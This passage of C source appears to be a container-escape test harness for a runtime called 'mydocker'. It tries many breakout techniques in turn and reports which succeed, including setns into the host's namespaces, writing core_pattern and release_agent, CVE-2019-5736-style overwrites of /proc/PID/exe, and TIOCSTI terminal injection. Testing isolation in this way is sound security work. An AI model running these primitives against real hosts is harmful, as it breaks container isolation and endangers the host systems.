    {"leave", "clone a user namespace", clone_user}, {"leave", "clone3 a user namespace", clone3_user},
    {"leave", "a mount namespace, umount -l /", mount_namespace}, {"leave", "setns /proc/1/ns/mnt", setns_mnt},
    {"leave", "setns /proc/1/ns/*", setns_all}, {"leave", "setns by a pidfd", setns_pidfd}, {"leave", "NS_GET_USERNS", owners},
    {"leave", "NS_GET_PARENT", ancestors}, {"leave", "umount -l / and setns", detach_and_enter}, {"leave", "/proc/*/root, cwd", roots},
    {"leave", "a volume's ..", volume_up}, {"leave", "a read-only volume, bound elsewhere", volume_again},
    {"leave", "--read-only undone", read_only_root}, {"leave", "open_by_handle_at", by_handle},
    {"fds", "descriptors of every process", descriptors},
    {"read", "open core_pattern for writing", core_pattern}, {"read", "open modprobe for writing", modprobe},
    {"read", "open max_user_namespaces for writing", namespaces_max}, {"read", "open sysrq-trigger for writing", sysrq},
    {"read", "open uevent_helper for writing", uevent_helper}, {"read", "a file of /proc that can be written", proc_files},
    {"read", "a file of /sys that can be written", sys_files}, {"read", "/proc/kcore", kcore}, {"read", "/proc/keys", keys},
    {"read", "/proc/timer_list", timers}, {"read", "/proc/kmsg", kmsg}, {"read", "init_module", module}, {"read", "kexec_load", kexec},
    {"read", "swapoff", swap}, {"read", "iopl", ports},
    {"host", "mknod of a disk", disk_node}, {"host", "mknod of the memory", memory_node}, {"host", "mknod of the kernel's log", kmsg_node},
    {"host", "mknod on a tmpfs of its own", tmpfs_node}, {"host", "chmod of devices", device_modes},
    {"host", "chmod of masks", mask_modes}, {"host", "a new cgroup2", new_cgroup2},
    {"host", "a new cgroup2 in a nested cgroup namespace", nested_cgroup2}, {"host", "release_agent of a cgroup v1", release_agent},
    {"host", "an abstract socket", abstract}, {"host", "SysV shared memory", shared_memory}, {"host", "signals to every pid", signals},
    {"host", "the special keyrings", key_special}, {"leave", "/proc/1/map_files", map_files},
    {"key", "a key by its serial", key}, {"key", "a key by search", key_search}, {"key", "a keyring, linked", key_link},
    {"xattr", "trusted.overlay.redirect", mark_trusted}, {"xattr", "user.overlay.*", mark_user},
    {"calls", "add_key", add}, {"calls", "request_key", request}, {"calls", "keyctl", keyring}, {"calls", "bpf", bpf},
    {"calls", "perf_event_open", perf}, {"calls", "userfaultfd", faults}, {"calls", "io_uring_setup", uring},
    {"calls", "socket(AF_VSOCK)", vsock}, {"calls", "syslog", kernel_log}, {"calls", "open_by_handle_at", handle_of},
};

static void tell(const char *tag, const char *name, int answer) {
    if (answer == REACHED) printf("%s %s: REACHED%s%s\n", tag, name, seen ? " " : "", seen ? seen : "");
    else printf("%s %s: %s\n", tag, name, answer == ABSENT ? "absent" : answer < 0 ? strerrorname_np(errno) : "harmless");
    fflush(stdout);
}
// Each by a process of its own, in mounts of its own where that is allowed: so one does not spoil the next.
static void attempt(size_t i) {
    pid_t pid = fork();
    if (pid == 0) {
        alarm(20);
        int own = open("/proc/self/ns/mnt", O_RDONLY);
        if (TRIES[i].try != setns_mnt && unshare(CLONE_NEWNS) == 0) mount("", "/", NULL, MS_REC | MS_PRIVATE, NULL);
        close(own);
        mkdir(M, 0700);
        int answer = TRIES[i].try(), error = errno;
        if (answer != REACHED && reached()) answer = REACHED;
        errno = error;
        tell(TRIES[i].tag, TRIES[i].name, answer);
        _exit(0);
    }
    int status;
    waitpid(pid, &status, 0);
    if (!WIFEXITED(status)) printf("%s %s: signal %d\n", TRIES[i].tag, TRIES[i].name, WTERMSIG(status)), fflush(stdout);
}

// ---------------------------------------------------------------- the program of another process

#define EXE(NAME, CALL) (errno = 0, tell("exe", NAME, (CALL) ? REACHED : -1))
// What can be done to the inode of a memfd, but is harmless where its contents are sealed: it has no name, on no file
// system that is mounted, and goes with the last who executes it or has it open. Mode, owner, times, flags and
// attributes are read by nobody but an execve of it, in the container: setuid, or with capabilities, it is no more than
// a memfd of his own, which a root in there may give the same.
#define OWN(NAME, CALL) (errno = 0, tell("exe", NAME, (CALL) ? sealed ? 0 : REACHED : -1))
static void exe(const char *pid) {
    char path[64], again[64];
    struct stat at;
    struct statfs fs;
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC), handle = open(path, O_PATH | O_CLOEXEC);
    close(open("attack.file", O_CREAT | O_RDONLY, 0600));
    if (fd < 0 || fstat(fd, &at)) return (void)printf("exe %s: %s\n", path, strerrorname_np(errno));
    snprintf(again, sizeof again, "/proc/self/fd/%d", handle);
    const int all = F_SEAL_WRITE | F_SEAL_GROW | F_SEAL_SHRINK | F_SEAL_SEAL;
    int seals = fcntl(fd, F_GET_SEALS), sealed = seals >= 0 && (seals & all) == all;
    OWN("a mount that is writable", !fstatfs(fd, &fs) && !(fs.f_flags & 1));
    EXE("open for writing", open(path, O_WRONLY) >= 0);
    EXE("open for reading and writing", open(path, O_RDWR) >= 0);
    EXE("open of a descriptor", open(again, O_WRONLY) >= 0);
    EXE("truncate", !truncate(path, at.st_size));
    OWN("chmod", !fchmod(fd, at.st_mode & 07777));
    OWN("chown", !fchown(fd, at.st_uid, at.st_gid));
    OWN("utimes", !futimens(fd, (struct timespec[]){{0, UTIME_OMIT}, at.st_mtim}));
    OWN("setxattr", !fsetxattr(fd, "user.attack", "x", 1, 0));
    int flags = 0;
    OWN("FS_IOC_SETFLAGS", !ioctl(fd, FS_IOC_GETFLAGS, &flags) && !ioctl(fd, FS_IOC_SETFLAGS, &flags));
    EXE("link", !linkat(handle, "", AT_FDCWD, "attack.exe", AT_EMPTY_PATH) || !linkat(AT_FDCWD, path, AT_FDCWD, "attack.exe", AT_SYMLINK_FOLLOW));
    EXE("remount", !mount("", path, NULL, MS_REMOUNT | MS_BIND, NULL));
    struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
    EXE("mount_setattr", !syscall(SYS_mount_setattr, handle, "", AT_EMPTY_PATH, &attr, sizeof attr));
    EXE("mount_setattr by path", !syscall(SYS_mount_setattr, AT_FDCWD, path, 0, &attr, sizeof attr));
    EXE("open_tree", (syscall(SYS_open_tree, handle, "", OPEN_TREE_CLONE | AT_EMPTY_PATH)) >= 0);
    EXE("bind mount", !mount(path, "attack.file", NULL, MS_BIND, NULL));
    EXE("umount", !umount2(path, DETACH));
    close(fd);
    close(handle);
}
// While a program is executed nobody can write it (ETXTBSY): CVE-2019-5736 waited for its end, as this does. Who has
// a memfd can open it for writing then; what is tried is the writing itself, of what is there already.
static void kept(const char *pid) {
    char path[64], again[64], byte;
    struct stat at;
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int handle = open(path, O_PATH | O_CLOEXEC), fd;
    if (handle < 0 || fstat(handle, &at)) return (void)printf("exe %s: %s\n", path, strerrorname_np(errno));
    snprintf(again, sizeof again, "/proc/self/fd/%d", handle);
    tell("exe", "kept open", 0);
    for (int i = 0; (fd = open(again, O_RDWR)) < 0 && errno == ETXTBSY && i < 1000; i++) usleep(20000);
    if (fd < 0) return (void)printf("exe %s: %s\n", again, strerrorname_np(errno));
    EXE("write what was kept", pread(fd, &byte, 1, 0) == 1 && pwrite(fd, &byte, 1, 0) == 1);
    EXE("resize what was kept", !ftruncate(fd, at.st_size + 1) && !ftruncate(fd, at.st_size));
    EXE("map what was kept", mmap(NULL, 1, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) != MAP_FAILED);
}
static int hold(const char *file) { // who opens it waits for us, fcntl(2), "Leases"; to look at it is not to open it
    int fd = open(file, O_RDONLY);
    signal(SIGIO, SIG_IGN); // the kernel asks for the lease back, and takes it after lease-break-time: 45 seconds
    if (fd < 0 || fcntl(fd, F_SETLEASE, F_WRLCK)) return perror("attack hold"), 1;
    return puts("held") < 0 || fflush(stdout) ? 1 : pause();
}
static int into(char **argv) { // with every capability in there, and no filter: more than any process of the container's
    int pidfd = syscall(SYS_pidfd_open, atoi(argv[0]), 0), status = -1;
    if (pidfd < 0 || setns(pidfd, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID)) return perror("attack into"), 1;
    (void)!setgroups(0, NULL); // forbidden in a map of one id
    if (setgid(0) || setuid(0)) return perror("attack into"), 1;
    pid_t pid = fork(); // the pid namespace begins with the next one
    if (pid == 0) {
        execvp(argv[1], argv + 1);
        _exit((perror(argv[1]), 127));
    }
    waitpid(pid, &status, 0);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}
// ---------------------------------------------------------------- the caller's terminal

static int type(int fd, const char *text) {
    for (; *text; text++) if (ioctl(fd, 0x5412 /* TIOCSTI */, text)) return -1;
    return REACHED;
}
static void tty(void) {
    tell("tty", "TIOCSTI", type(0, "stolen\n"));
    tell("tty", "TIOCSCTTY", ioctl(0, 0x540e, 0) ? -1 : type(0, "stolen\n"));
    tell("tty", "TIOCSCTTY, by force", ioctl(0, 0x540e, 1) ? -1 : type(0, "stolen\n"));
    char again[] = "/proc/self/fd/0";
    int fd = open(again, O_RDWR);
    tell("tty", "TIOCSTI, opened again", fd < 0 ? -1 : type(fd, "stolen\n"));
    pid_t pid = fork();
    if (pid == 0) { // a session of its own takes the first terminal that it opens
        setsid();
        fd = open(again, O_RDWR);
        tell("tty", "TIOCSTI, in a new session", fd < 0 ? -1 : type(fd, "stolen\n"));
        _exit(0);
    }
    waitpid(pid, NULL, 0);
    fd = open("/dev/tty", O_RDWR);
    tell("tty", "/dev/tty", fd < 0 ? -1 : type(fd, "stolen\n"));
    struct { char kind, subcode[11]; } paste = {3, ""};
    tell("tty", "TIOCLINUX, paste", ioctl(0, 0x541c, &paste) ? -1 : REACHED);
    paste.kind = 2;
    tell("tty", "TIOCLINUX, select", ioctl(0, 0x541c, &paste) ? -1 : REACHED);
    tell("tty", "TIOCCONS", ioctl(0, 0x541d) ? -1 : REACHED);
}

// ---------------------------------------------------------------- canaries

static int canaries(int argc, char **argv) {
    if (!strcmp(argv[1], "key")) {
        long ring = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 1);
        long made = syscall(SYS_add_key, "user", "mydocker-canary", argv[2], strlen(argv[2]), KEY_SPEC_USER_KEYRING);
        syscall(SYS_keyctl, KEYCTL_SET_TIMEOUT, made, 600); // whatever becomes of the test
        return made < 0 ? 1 : printf("KEY=%ld RING=%ld\n", made, ring) < 0;
    }
    if (!strcmp(argv[1], "read")) return read_key(atol(argv[2])) == REACHED ? puts(SECRET) < 0 : 1;
    if (!strcmp(argv[1], "forget")) return syscall(SYS_keyctl, KEYCTL_INVALIDATE, atol(argv[2])) != 0;
    if (!strcmp(argv[1], "shm")) return shmget(atoi(argv[2]), 4096, IPC_CREAT | 0666) < 0;
    if (!strcmp(argv[1], "handle")) {
        struct { struct file_handle head; unsigned char bytes[128]; } handle = {.head.handle_bytes = 128};
        int id;
        if (name_to_handle_at(AT_FDCWD, argv[2], &handle.head, &id, 0)) return 1;
        printf("%x:", (unsigned)handle.head.handle_type);
        for (unsigned i = 0; i < handle.head.handle_bytes; i++) printf("%02x", handle.bytes[i]);
        return puts("") < 0;
    }
    if (!strcmp(argv[1], "listen")) {
        struct sockaddr_un name = {.sun_family = AF_UNIX};
        strncpy(name.sun_path + 1, argv[2], sizeof name.sun_path - 2);
        int fd = socket(AF_UNIX, SOCK_STREAM, 0);
        if (bind(fd, (void *)&name, sizeof(sa_family_t) + 1 + strlen(argv[2])) || listen(fd, 99)) return 1;
        return pause();
    }
    if (!strcmp(argv[1], "as")) { // busybox's su takes options of the command for its own
        int id = atoi(argv[2]);
        if (setgroups(0, NULL) || setgid(id) || setuid(id)) return perror("attack as"), 1;
        execvp(argv[3], argv + 3);
        return perror(argv[3]), 127;
    }
    return fprintf(stderr, "attack: %s with %d words?\n", argv[1], argc), 2;
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    if (!strcmp(argv[1], "all"))
        for (size_t i = 0; i < sizeof TRIES / sizeof *TRIES; i++) attempt(i);
    else if (!strcmp(argv[1], "mark")) mark_trusted(), mark_user();
    else if (!strcmp(argv[1], "exe")) exe(argv[2]);
    else if (!strcmp(argv[1], "kept")) kept(argv[2]);
    else if (!strcmp(argv[1], "hold")) return hold(argv[2]);
    else if (!strcmp(argv[1], "into")) return into(argv + 2);
    else if (!strcmp(argv[1], "tty")) tty();
    else if (!strcmp(argv[1], "caps"))
        printf("%llx %llx %llx %llx %llx\n", set_of("CapInh"), set_of("CapPrm"), set_of("CapEff"), set_of("CapBnd"), set_of("CapAmb"));
    else return canaries(argc, argv);
    return 0;
}
